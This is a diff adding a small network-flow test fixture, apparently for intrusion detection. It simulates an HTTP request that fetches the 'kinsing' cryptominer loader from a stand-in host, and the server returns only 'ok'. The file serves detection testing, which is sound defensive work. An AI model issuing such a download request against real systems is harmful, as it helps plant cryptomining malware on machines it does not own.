@@ -1,0 +1,16 @@
+# loader of a miner fetched by its usual name.
+proto tcp
+client 10.0.0.1:40000
+server 10.0.0.2:80
+
+>>>
+GET /kinsing HTTP/1.1\r\n
+Host: 198.51.100.7\r\n
+User-Agent: Mozilla/5.0\r\n
+\r\n
+
+<<<
+HTTP/1.1 200 OK\r\n
+Content-Length: 2\r\n
+\r\n
+ok
